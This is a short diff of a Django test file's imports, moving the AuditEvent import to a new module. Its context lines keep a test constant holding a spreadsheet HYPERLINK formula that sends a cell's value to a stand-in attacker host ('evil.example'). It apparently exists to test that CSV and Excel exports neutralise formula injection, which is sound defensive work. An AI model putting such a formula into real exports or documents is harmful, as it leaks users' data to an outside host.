@@ -11,7 +11,6 @@ from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
 from openpyxl import Workbook, load_workbook
 
-from aims.audit.models import AuditEvent
 from aims.checks.models import Check, CheckRun, RunStatus
 from aims.checks.samples import BIASED
 from aims.core.exports import SafeCSVWriter, append_safe_row, safe_cell
@@ -20,6 +19,7 @@ from aims.inventory.services import save_system
 from aims.organizations.models import Membership, Role
 from aims.soa.models import Applicability, SoAEntry
 from aims.soa.services import update_entry
+from aims.trail.models import AuditEvent
 
 HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
 
